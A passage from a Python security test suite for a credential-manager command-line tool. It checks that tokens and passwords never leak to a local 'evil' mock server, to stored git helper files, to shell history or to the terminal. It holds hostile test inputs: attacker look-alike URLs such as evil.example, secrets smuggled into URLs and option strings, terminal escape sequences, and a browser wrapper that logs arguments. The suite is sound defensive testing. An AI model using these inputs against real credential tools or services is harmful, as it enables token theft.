            yield Attack("local user", f"{name} {what}", read, changed(name, change), NOT_ALLOWED)


def reads_what_was_typed():
    added = Scene(code())
    # SecretOptionTests checks all forms of options, and which options are secret.
    for words in (
        "add-provider $W/notes.yaml --replace --client-id client --client-secret $T",
        "add-provider $W/notes.yaml --replace --client-id client --client-secret-file $T",
        "add-provider $W/notes.yaml --replace --client-id client --set $T", "login notes --with-token $T", "login notes -p$T",
        "exec nots -- true --password=$T", "vault protect passphrase --passphrase-file $T", "vault protect $T",
        "vault import $W/copy --password $T", "--token=$T login notes", "header notes --url http://u:$T@$H/",
        "request notes http://$H/api --header $T", "request notes http://u:$T@$H/api", "add-provider https://u:$T@notes.example",
        "use notes ada --key $T", "use notes ada --for https:/u:$T@forge.example/x", "use notes ada --for http//u:$T@forge.example/x",
        "use notes ada --for https:$T@forge.example/x", "docker-credential setup https://$H/x?token=$T",
        "docker-credential setup https:/u:$T@$H/x", "request notes http://$H/api --client-secret$T", "token notes --api-key$T",
        "login notes --x$T", "login notes --client_secret=$T", "login notes –token=$T", "vault protect --passphrase$T",
    ):
        shown = words.replace("$W/", "")
        yield Attack("local user", f"a secret on the command line {shown}", added, {"commands": (tuple(words.split()),)},
                     (USAGE, LOGIN_NEEDED), hides=(TYPED,))
    rule = Scene(code(more='git: { hosts: ["$H"] }\n'), commands=(
        ("use", "notes", ADA, "--for", "http://octo@$H/team"), ("status", "--for", "http://$H/team", "--json")), shows=ADA)

    def not_in_rules(test, _):
        for folder, _, names in os.walk(test.homes[-1]):
            for name in names:
                with open(os.path.join(folder, name), "rb") as file:
                    test.assertNotIn(TYPED.encode(), file.read(), name)

    for url in ("http://octo:$T@$H/team", "http://$T:x@$H/team", "http://$H/team?access_token=$T",
                "git@forge.example:acme?$T"):
        yield Attack("local user", f"a password in the URL of a rule {url}", rule, {"commands": (
            ("use", "notes", ADA, "--for", url), ("status", "--for", url.replace("//$T:x@", "//octo:$T@")),
            ("status", "--for", url.replace("//$T:x@", "//octo:$T@"), "--json"), ("log",), ("doctor",)), "shows": "",
            "then": not_in_rules}, (DONE, LOGIN_NEEDED, USAGE), hides=(TYPED,), says="")
    yield Attack("local user", "a password in a URL without a scheme", rule, {"commands": (
        ("use", "notes", ADA, "--for", "octo:$T@$H/team"),)}, hides=(TYPED,))


def keeps_tokens_of_git():
    def helper(test):
        test.file("gitconfig", test.fill("[credential]\n\thelper = store --file=$W/store\n"))
        test.file("store", "")

    def approved(test, host):
        """Acts like git after a clone: requests a credential and reports success to all helpers."""
        told = subprocess.run(["git", "credential", "fill"], input=test.fill(f"protocol=http\nhost={host}\n\n"), text=True,
                              env=test.environment, capture_output=True, check=True).stdout
        subprocess.run(["git", "credential", "approve"], input=told, text=True, env=test.environment, check=True)
        return told

    def keeps_others(test, _):
        other = "protocol=https\nhost=other.example\nusername=ada\npassword=own-password\n\n"
        subprocess.run(["git", "credential", "approve"], input=other, text=True, env=test.environment, check=True)
        test.assertIn("own-password", text_of(os.path.join(test.folder, "store")), "other hosts keep their helper")

    def keeps_nothing(test, _):
        test.assertIn(ACCESS, approved(test, "$H"))
        test.assertNotIn(ACCESS, text_of(os.path.join(test.folder, "store")))
        keeps_others(test, _)

    def later(test):
        helper(test)
        test.credmgr("git-setup")
        subprocess.run(["git", "config", "--global", "--add", "credential.helper", test.fill("store --file=$W/store")],
                       env=test.environment, check=True)

    def warned(test, _):
        outcome = test.run_program("doctor")
        test.assertRegex(outcome.out, r"problem +git +git gives the helper .store")
        test.assertIn("git-setup", outcome.out)

    def without_order(test):
        test.file("gitconfig", test.fill(
            f"[credential]\n\thelper = {BINARY} git-credential\n\thelper = store --file=$W/store\n"))
        test.file("store", "")

    def another(version, after):
        """Installs a git that claims a version: git knows `ephemeral` since 2.46 and has scopes since 2.26."""
        def also(test):
            os.makedirs(os.path.join(test.folder, "bin"), exist_ok=True)
            old = 'case "$*" in *--show-scope*|*--fixed-value*) exit 129;; esac\n' if version < "2.3" else ""
            test.file("bin/git", f'#!/bin/sh\n[ "$1" = version ] && exec echo git version {version}\n{old}'
                      f'exec {shutil.which("git")} "$@"\n', 0o700)
            after(test)
        return also

    def answered(test, _):
        """Checks that the answer is `ephemeral` and that no other helper stores it."""
        knows = "capability[]=authtype\ncapability[]=state\nprotocol=http\nhost=$H\n\n"
        told = test.run_program("git-credential", "get", stdin=test.fill(knows)).out
        test.assertIn("ephemeral=1", told)
        keeps_nothing(test, _)

    git = code(more='git: { hosts: ["$H"], username: x }\n')
    other_git = {"PATH": "$W/bin:" + os.environ["PATH"]}
    control = Scene(git, after=helper, commands=(("git-setup",),), then=keeps_others)
    yield Attack("local user", "the file of another helper of git", control, {"then": keeps_nothing}, (DONE,), says="")
    yield Attack("local user", "the file of a helper of git that comes later", control, {
        "after": later, "commands": (), "then": keeps_nothing}, (DONE,), says="")
    yield Attack("local user", "the file of a helper behind credmgr that nobody was told of", control, {
        "after": without_order, "commands": (), "then": warned}, (DONE,), says="")
    for version in ("2.25.1", "2.52.0"):
        for name, steps, then in (("another helper", helper, answered), ("a helper that comes later", later, keeps_nothing),
                                  ("a helper behind credmgr that nobody was told of", without_order, warned)):
            yield Attack("local user", f"the file of {name} of git {version}", control, {
                "after": another(version, steps), "environment": other_git, "then": then,
                "commands": (("git-setup",),) if steps is helper else ()}, (DONE,), says="")
    yield Attack("local user", "the keys of TLS connections", Scene(
        code(), tls=True, commands=(("request", "notes", "https://$H/api"),)), {
        "environment": {"SSLKEYLOGFILE": "$W/keys"},
        "then": lambda test, _: test.assertFalse(os.path.exists(os.path.join(test.folder, "keys")))}, (DONE,), says="")


# A server that gets requests, or sends them.
def asks_for_a_token():
    api = Scene(code(more='hosts: ["$H"]\n'), commands=(("request", "notes", "http://$H/api"),))
    yield Attack("asking server", "a request that is redirected to another host", api, {
        "answers": {"/api": lambda server, request: redirect(server.fill("http://$E/api"))}}, WRONG_ANSWER)
    shown = replace(api, commands=(("header", "notes", "--url", "http://$H/api"),), shows="Bearer")
    for url in ("http://$E/api", "http://$H@$E/api", "http://$E\\@$H/", "https://$H.evil.example/", "http://$H:80@evil.example/",
                "http://evil.example/$H", "//$E/"):
        yield Attack("asking server", f"a header for {url}", shown, {"commands": (("header", "notes", "--url", url),),
                                                                    "shows": ""}, NOT_ALLOWED)


def asks_as_a_cluster():
    def question(spec):
        return {"KUBERNETES_EXEC_INFO": json.dumps({"apiVersion": "client.authentication.k8s.io/v1", "spec": spec})}

    control = Scene(code(more='kubectl: { hosts: ["$H"] }\n'), environment=question({"cluster": {"server": "http://$H"}}),
                    commands=(("kubectl-credential", "notes"),), shows=ACCESS)
    for name, spec in (
        ("another cluster", {"cluster": {"server": "http://$E"}}), ("no cluster", {}), ("a cluster without a server", {"cluster": {}}),
        ("a server that nobody can read", {"cluster": {"server": "http://u@$H"}}),
        ("a server in clear", {"cluster": {"server": "http://10.0.0.1"}}),
    ):
        yield Attack("asking server", f"kubectl's token for {name}", control, {"environment": question(spec), "shows": ""})


def writes_to_the_terminal():
    body = b"\x1b]0;owned\x07 plain \xe2\x80\xae \xc2\x9b31m \x08\n"

    def harmless(test, _):
        terminal = test.terminal("request", "notes", test.fill("http://$H/api"))
        terminal.end()
        test.assertIn("plain", terminal.seen)
        for bad in "\x1b\x07\x08\u202e\x9b":
            test.assertNotIn(bad, terminal.seen.replace("\x1b[K", ""))

    def unchanged(test, _):
        test.assertEqual(ask(test, "request", "notes", "http://$H/api").encode(), body)

    raw = Response(200, body, [("Content-Type", "text/plain")])
    piped = Scene(code(more='hosts: ["$H"]\n'), answers={"/api": raw}, then=unchanged)
    yield Attack("asking server", "control characters for a terminal", piped, {"then": harmless}, (DONE,))

    def visible(test, outcome):
        for bad in "\u2028\u2029\u200b\u200f\u061c\ufeff\u202e\u00ad":
            test.assertNotIn(bad, outcome.out)

    scope = Scene(code(), answers=answer(scope="read write"), commands=(("status", "notes"),), shows="read")
    yield Attack("provider", "characters that are not seen in a scope", scope, {
        "answers": answer(scope="re\u2028ad\u200f\ufeff\u061c\u200b\u00ad"), "shows": "", "then": visible}, (DONE,))


ATTACKS = [attack for rows in (
    steers_by_its_answer,
    answers_badly,
    speaks_to_a_shell,
    takes_secrets_to_a_page,
    shows_secrets,
    redirects_elsewhere,
    widens_what_was_agreed,
    weakens_what_was_agreed,
    brings_an_export,
    writes_lines,
    exhausts_the_machine,
    borrows_from_another,
    takes_a_scheme,
    weakens_the_proof,
    writes_files,
    reads_what_was_typed,
    keeps_tokens_of_git,
    asks_for_a_token,
    asks_as_a_cluster,
    writes_to_the_terminal,
) for attack in rows()]


class Attacks(ProgramTest):
    # A readable file with account rules contains their names.
    accounts = ()
    controlled = set()

    def browser(self):
        """Uses the ordinary browser, but first records its arguments, which other users can read."""
        ordinary = super().browser()
        script = f"#!/bin/sh\necho \"$1\" >>'{self.folder}/addresses'\nexec '{ordinary}' \"$1\"\n"
        return self.file("noting-browser", script, 0o700)

    @property
    def addresses(self):
        path = os.path.join(self.folder, "addresses")
        return text_of(path).splitlines() if os.path.exists(path) else []

    def fill(self, text):
        """Fills in `$H` and the other names in a text of the table."""
        if self.mock.tls:
            text = text.replace("http://$H", "https://$H")
        for sign, value in (("$H", f"127.0.0.1:{self.mock.port}"), ("$E", f"127.0.0.1:{self.evil.port}"), ("$W", self.folder),
                            ("$T", TYPED)):
            text = text.replace(sign, value)
        return text

    def step(self, *arguments, stdin=""):
        outcome = self.run_program(*map(self.fill, arguments), stdin=self.fill(stdin))
        self.said += outcome.out + outcome.err
        return outcome

    def play(self, scene):
        """Runs a scene; returns the outcome of its last step."""
        self.said = ""
        with contextlib.suppress(FileNotFoundError):
            os.remove(os.path.join(self.folder, "addresses"))
        self.new_home()
        tls = None
        if scene.tls:
            authority = Authority(self.folder)
            tls, self.environment["SSL_CERT_FILE"] = authority.context(), authority.certificate
        self.mock, self.evil = MockServer(scene.answers, self.fill, tls), MockServer({}, self.fill)
        self.mock.tls = scene.tls
        self.serve(self.mock)
        self.serve(self.evil)
        # A test that gets a token prints it; the check below shows that it goes nowhere else.
        self.evil.secrets.clear()
        self.environment.update({name: self.fill(value) for name, value in scene.environment.items()})
        self.file("client-secret", CLIENT_SECRET + "\n")
        self.file("notes.yaml", self.fill(scene.descriptor))
        provider = (re.search(r"(?m)^provider: (\S+)", scene.descriptor) or [None, "notes"])[1]
        outcome = self.step("add-provider", "$W/notes.yaml", *scene.options)
        if outcome.status:
            return outcome
        if scene.edit:
            self.file(f"{self.homes[-1]}/config/providers/{provider}.yaml", self.fill(scene.edit))
        outcome = self.step(*scene.login)
        if outcome.status == DONE and scene.after:
            scene.after(self)
        for command in scene.commands:
            if outcome.status:
                break
            outcome = self.step(*command, stdin=scene.stdin)
        if outcome.status == DONE and scene.shows:
            self.assertIn(scene.shows, outcome.out + outcome.err)
        if outcome.status == DONE and scene.then:
            scene.then(self, outcome)
        return outcome

    def run_attack(self, attack):
        # Consecutive rows often have the same control.
        if id(attack.control) not in self.controlled:
            outcome = self.play(attack.control)
            self.assertEqual(outcome.status, DONE, f"the control does not work:\n{outcome.out}\n{outcome.err}")
            self.controlled.add(id(attack.control))
        start = time.monotonic()
        outcome = self.play(replace(attack.control, **attack.change))
        self.assertLess(time.monotonic() - start, 100, "the attack takes long")
        self.assertIn(outcome.status, attack.ends, f"the attack ended so:\n{outcome.out}\n{outcome.err}")
        if outcome.status and attack.says:
            self.assertRegex(outcome.err + outcome.out, attack.says)
        for secret in attack.hides:
            self.assertEqual([request.target for request in self.evil.got(secret)], [], f"{secret} is at the attacker's")
            self.assertNotIn(secret, self.said)
            for address in self.addresses:
                self.assertNotIn(secret, urllib.parse.unquote(address))
        for address in (*self.addresses, *(request.target for request in self.mock.requests("/authorize"))):
            self.assertNotIn("evil.example", urllib.parse.unquote(address))


for row in ATTACKS:
    # Some names differ only in punctuation.
    name = next(name for number in range(1, 99) if not hasattr(Attacks, name := row.name + f"_{number}" * (number > 1)))
    setattr(Attacks, name, lambda self, row=row: self.run_attack(row))

if __name__ == "__main__":
    unittest.main()
